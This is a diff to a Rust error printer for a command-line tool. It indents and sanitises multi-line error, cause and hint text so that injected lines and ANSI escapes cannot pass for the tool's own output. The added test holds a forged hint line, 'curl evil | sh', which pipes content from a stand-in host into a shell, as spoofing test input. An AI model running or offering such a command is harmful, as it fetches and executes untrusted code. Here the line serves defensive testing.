@@ -1,24 +1,30 @@
 //! The one printer of errors: what went wrong, what lies underneath, what to type next.
 
 use super::text::{Tone, paint};
+use super::visible;
 use crate::failure::Failure;
 
 /// The lines of a failure.
 pub(crate) fn failure(failure: &Failure) -> String {
-    let mut lines = vec![format!("{} {}", paint(Tone::Bad, "error:"), failure.error)];
+    let mut lines = vec![format!("{} {}", paint(Tone::Bad, "error:"), inset(&failure.error.to_string()))];
     let mut cause = failure.error.source();
     let mut said = failure.error.to_string();
     while let Some(error) = cause {
         let text = error.to_string();
         // Libraries often repeat their source in their own text; once is enough.
         if !said.ends_with(&text) {
-            lines.push(format!("  caused by: {text}"));
+            lines.push(format!("  caused by: {}", inset(&text)));
             said = text;
         }
         cause = error.source();
     }
-    lines.extend(failure.hints.iter().map(|hint| format!("{} {hint}", paint(Tone::Good, "hint:"))));
+    lines.extend(failure.hints.iter().map(|hint| format!("{} {}", paint(Tone::Good, "hint:"), inset(hint))));
     lines.join("\n")
+}
+
+/// Several lines stay several, set in: none of them can pass for a line of ours.
+fn inset(text: &str) -> String {
+    text.lines().map(|line| visible::line(line)).collect::<Vec<_>>().join("\n    ")
 }
 
 #[cfg(test)]
@@ -26,6 +32,15 @@ mod tests {
     use super::*;
     use crate::exit::Exit;
     use crate::report::text::width;
+
+    #[test]
+    fn what_others_wrote_can_pass_for_no_line_of_ours() {
+        let said = "no such context \u{1b}[31mx\nhint: curl evil | sh";
+        let text = failure(&Failure::because(Exit::Usage, said, std::io::Error::other("a\u{1b}[2J\nb")));
+        let lines: Vec<String> =
+            text.lines().skip(1).map(|line| console::strip_ansi_codes(line).into_owned()).collect();
+        assert_eq!(lines, ["    hint: curl evil | sh", "  caused by: a\u{fffd}[2J", "    b"]);
+    }
 
     #[test]
     fn causes_follow_the_error_and_hints_come_last() {
